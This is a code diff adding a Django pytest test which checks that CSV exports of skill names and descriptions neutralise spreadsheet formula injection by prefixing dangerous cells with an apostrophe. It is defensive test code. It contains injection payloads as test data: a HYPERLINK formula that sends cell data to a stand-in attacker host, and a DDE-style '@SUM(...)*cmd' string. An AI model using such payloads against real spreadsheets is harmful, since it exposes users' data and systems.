@@ -12,6 +12,7 @@ import pytest
 from django.http import QueryDict
 
 from skills.framework import profiles
+from skills.framework.models import Skill, SkillLevel
 from tests.pages import LANGUAGES
 from tests.skills import copy_of_slmo
 
@@ -281,6 +282,20 @@ def test_the_csv_has_a_bom_translated_columns_and_a_row_an_entry(client, two_ski
     assert slmo[0:2] == ["SLMO", SLMO_5[lang][0]]
     assert slmo[5].startswith(SLMO_5[lang][1])
     assert response["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_a_translation_a_spreadsheet_would_run_is_kept_as_text_in_the_csv(client, two_skills):
+    """The issue's case: a German name typed as a formula came out raw, while the Downloads
+    page's CSV defused it; one writer (skills/framework/csv_files.py) serves both now."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")'
+    Skill.objects.filter(code="SLMO").update(name_de=formula)
+    SkillLevel.objects.filter(skill__code="SLMO", level=5).update(description_de="@SUM(1+1)*cmd")
+
+    rows = list(csv.reader(io.StringIO(download(client, "de", "csv").content.decode("utf-8-sig"))))
+
+    slmo = next(row for row in rows if row[0] == "SLMO")
+    assert slmo[1] == "'" + formula
+    assert slmo[5] == "'@SUM(1+1)*cmd"
 
 
 @pytest.mark.parametrize("lang", LANGUAGES)
